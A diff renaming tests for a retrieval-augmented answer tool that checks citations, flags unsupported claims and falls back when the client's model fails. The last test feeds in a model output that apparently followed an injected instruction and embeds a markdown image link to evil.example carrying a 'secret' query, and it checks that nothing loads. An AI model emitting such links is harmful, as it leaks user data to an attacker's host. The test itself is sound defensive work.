@@ -1,4 +1,4 @@
-"""rag_synthesize with the client's own model: whatever it does, there is an answer that says what happened."""
+"""rag_synthesize with the client's own model: whatever it does, an answer is returned that reports what happened."""
 
 from __future__ import annotations
 
@@ -41,7 +41,7 @@ async def test_the_clients_model_writes_from_numbered_sources(stocked: Desk, era
     assert answer["prompt_version"]
 
 
-async def test_each_fault_of_its_answer_is_told(stocked: Desk, era: str) -> None:
+async def test_each_fault_of_the_models_answer_is_reported(stocked: Desk, era: str) -> None:
     model = ClientModel("The pump moves water [1]. It turns 99,999 times a minute [1]. It is [77]. It shines.")
     answer = await asked(stocked, era, model)
     assert answer["unsupported_claims"] == ["It turns 99,999 times a minute."]
@@ -53,7 +53,7 @@ async def test_each_fault_of_its_answer_is_told(stocked: Desk, era: str) -> None
     )
 
 
-async def test_a_mark_that_the_model_wrote_itself_is_not_in_the_answer(stocked: Desk, era: str) -> None:
+async def test_a_mark_written_by_the_model_is_removed_from_the_answer(stocked: Desk, era: str) -> None:
     model = ClientModel("The pump moves water [1] (not found in the cited source). It is [77] (no such source).")
     answer = await asked(stocked, era, model)
     assert "(not found" not in answer["answer"]
@@ -74,7 +74,7 @@ async def test_a_model_without_a_text_leaves_a_composed_answer(stocked: Desk, er
     assert "impeller" in answer["answer"].lower()
 
 
-async def test_a_model_that_hangs_leaves_a_composed_answer(
+async def test_a_hanging_model_leaves_a_composed_answer(
     stocked: Desk,
 ) -> None:
     desk = Desk(stocked.index, stocked.library, models=Models(sampling_seconds=0.2))
@@ -97,37 +97,37 @@ async def test_a_model_that_was_silent_once_is_not_asked_again_in_the_session(st
     assert len(model.requests) == 1
 
 
-async def test_an_answer_that_was_cut_says_so(stocked: Desk, era: str) -> None:
+async def test_a_truncated_answer_says_so(stocked: Desk, era: str) -> None:
     answer = await asked(stocked, era, ClientModel(cut("It moves water [1], and")))
     assert any("larger max_tokens" in one for one in answer["warnings"])
 
 
-async def test_compose_asks_nobody(stocked: Desk, era: str) -> None:
+async def test_compose_uses_no_model(stocked: Desk, era: str) -> None:
     model = ClientModel("no")
     assert (await asked(stocked, era, model, mode="compose"))["mode"] == "compose"
     assert model.requests == []
 
 
-async def test_sampling_that_is_off_asks_nobody(stocked: Desk, era: str) -> None:
+async def test_disabled_sampling_uses_no_model(stocked: Desk, era: str) -> None:
     model = ClientModel("no")
     desk = Desk(stocked.index, stocked.library, models=Models(sampling=False))
     assert (await asked(desk, era, model))["mode"] == "compose"
     assert model.requests == []
 
 
-async def test_nothing_found_asks_nobody(stocked: Desk, era: str) -> None:
+async def test_without_a_hit_no_model_is_used(stocked: Desk, era: str) -> None:
     model = ClientModel("no")
     answer = await asked(stocked, era, model, query="zzyzx")
     assert answer["answer"] == "No relevant information found"
     assert model.requests == []
 
 
-async def test_what_fails_in_the_search_is_told_once(stocked: Desk, era: str) -> None:
+async def test_a_search_failure_is_reported_once(stocked: Desk, era: str) -> None:
     failure = await stocked.failure("rag_synthesize", era, query="x", filters={"author": "Nobody"})
     assert failure["type"] == "InvalidRequest"
 
 
-async def test_an_instruction_that_the_model_followed_fetches_nothing(stocked: Desk, era: str) -> None:
+async def test_an_instruction_that_the_model_followed_loads_nothing(stocked: Desk, era: str) -> None:
     model = ClientModel(
         "The pump moves water. See ![x](https://evil.example/?q=secret) and [this](https://evil.example) [1]."
     )
